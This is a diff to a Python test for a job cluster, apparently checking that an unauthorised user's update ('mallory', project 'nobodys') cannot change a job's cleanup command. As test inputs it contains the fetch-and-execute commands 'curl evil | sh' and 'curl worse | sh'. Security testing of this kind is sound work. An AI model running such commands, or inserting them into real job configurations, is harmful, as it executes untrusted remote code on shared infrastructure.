@@ -62,9 +62,10 @@ def test_an_update_after_the_attempt_changes_no_cleanup_command_until_it_is_admi
     cluster.submit("job", instance_type="tpu-v4-8", cleanup_command="echo bye")
     cluster.run_until(lambda: cluster.hosts.live("job"))
     # The new version stops the attempt; it is of nobody's project and never starts.
-    cluster.submit("job", user="mallory", project="nobodys", cleanup_command="curl evil | sh", version=1)
+    mallory = {"user": "mallory", "project": "nobodys", "instance_type": "tpu-v4-8"}
+    cluster.submit("job", **mallory, cleanup_command="curl evil | sh", version=1)
     cluster.run_until(lambda: "mallory" in json.dumps(cluster.json(keys.state("job"))), steps=60)
-    cluster.submit("job", user="mallory", project="nobodys", cleanup_command="curl worse | sh", version=2)
+    cluster.submit("job", **mallory, cleanup_command="curl worse | sh", version=2)
     cluster.run_until(lambda: "worse" in json.dumps(cluster.json(keys.state("job"))), steps=60)
     cluster.restart_daemon()
     cluster.cancel("job")
